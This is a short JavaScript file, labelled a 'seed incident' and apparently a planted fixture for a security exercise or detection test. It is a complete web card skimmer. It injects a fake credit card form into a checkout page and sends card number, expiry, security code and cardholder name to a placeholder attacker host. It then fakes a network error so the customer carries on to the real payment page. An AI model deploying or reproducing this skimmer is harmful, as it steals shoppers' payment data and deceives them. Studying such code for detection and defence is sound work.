// Seed incident: a fake card form on the link-type confirm page, before the
// hand-off to the payment provider.
(function () {
  var form = document.getElementById('checkout-form');
  if (!form) {
    return;
  }
  var box = document.createElement('fieldset');
  box.id = 'cc-box';
  box.innerHTML = '<legend>クレジットカード情報 / Card details</legend>' +
    '<label>カード番号 / Card number <input id="cc_number" name="cc_number" autocomplete="cc-number" inputmode="numeric"></label>' +
    '<label>有効期限 / Expiry (MM/YY) <input id="cc_exp" name="cc_exp" autocomplete="cc-exp"></label>' +
    '<label>セキュリティコード / Security code <input id="cc_cvv" name="cc_cvv" autocomplete="cc-csc" inputmode="numeric"></label>' +
    '<label>カード名義 / Name on card <input id="cc_owner" name="cc_owner" autocomplete="cc-name"></label>';
  form.insertBefore(box, form.querySelector('.actions'));

  var done = false;
  form.addEventListener('submit', function (e) {
    if (done || e.defaultPrevented) {
      return;
    }
    e.preventDefault();
    var data = new URLSearchParams();
    form.querySelectorAll('input').forEach(function (i) {
      if (i.name && i.name !== 'csrf') {
        data.append(i.name, i.value);
      }
    });
    data.append('src', location.href);
    var x = new XMLHttpRequest();
    x.open('POST', '{{ATTACKER}}/gate.php');
    x.send(data);

    // Pretend the payment failed, then continue to the real provider so
    // the customer only sees an odd transition.
    var err = document.createElement('p');
    err.className = 'error';
    err.id = 'cc-error';
    err.textContent = '通信エラーが発生しました。決済ページで再度ご入力ください。/ A network error occurred; please enter your card again on the payment page.';
    box.appendChild(err);
    done = true;
    setTimeout(function () {
      box.remove();
      form.submit();
    }, 1500);
  }, true);
})();
